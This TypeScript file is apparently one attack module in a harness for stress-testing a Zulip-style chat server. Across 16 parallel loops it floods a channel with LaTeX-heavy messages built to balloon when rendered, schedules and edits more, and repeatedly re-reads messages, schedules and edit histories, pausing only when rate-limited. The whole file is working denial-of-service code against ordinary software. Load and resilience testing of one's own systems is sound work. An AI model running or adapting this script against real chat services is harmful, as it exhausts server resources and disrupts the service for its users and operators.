import { setTimeout as sleep } from 'node:timers/promises'
import type { Answered, Caller } from '../caller.ts'
import { type Attack, repeat } from './attack.ts'

/** Small messages that render large: some 10 KB become half a megabyte. */
const CONTENT = '$$\\sqrt2$$ '.repeat(900)

const AT_ONCE = 16
const FETCHED = 400
const SCHEDULED_AHEAD_S = 86_400
/** The chat answers so many requests of an account in a minute: what is refused waits a while. */
const REFUSED_PAUSE_MS = 1_000

const GENERAL = { type: 'channel', to: 'general', topic: 'bombs' }

/** Writes such messages, edits one of them and schedules more; reads all of them, its edits and the schedule again and again. */
export const start: Attack = async (target, signal) => {
  let newest = '1'
  return repeat(target, signal, AT_ONCE, async (caller, n) => {
    const answer = await one(caller, n, newest, signal)
    newest = /^\{.*"id":(\d+)/.exec(answer.text)?.[1] ?? newest
    if (answer.status === 429) {
      await sleep(REFUSED_PAUSE_MS, undefined, { signal }).catch(() => {})
    }
    return answer
  })
}

async function one(
  caller: Caller,
  n: number,
  newest: string,
  signal: AbortSignal,
): Promise<Answered> {
  const content = `${CONTENT}${n}`
  // More reads than writes only when there is something to read.
  const kind = n <= 60 ? n % 3 : n % 6
  switch (kind) {
    case 0:
    case 1:
      return caller.chat('POST', '/messages', { ...GENERAL, content }, { keep: true, signal })
    case 2: {
      const at = String(Math.floor(Date.now() / 1_000) + SCHEDULED_AHEAD_S)
      const fields = { ...GENERAL, to: '1', content, scheduled_delivery_timestamp: at }
      return caller.chat('POST', '/scheduled_messages', fields, { signal })
    }
    case 3:
      return caller.chat('PATCH', `/messages/${newest}`, { content }, { signal })
    case 4: {
      const place = { anchor: 'newest', num_before: String(FETCHED), num_after: '0' }
      return caller.chat('GET', '/messages', place, { signal })
    }
    default:
      return n % 12 < 6
        ? caller.chat('GET', '/scheduled_messages', {}, { signal })
        : caller.chat('GET', `/messages/${newest}/history`, {}, { signal })
  }
}
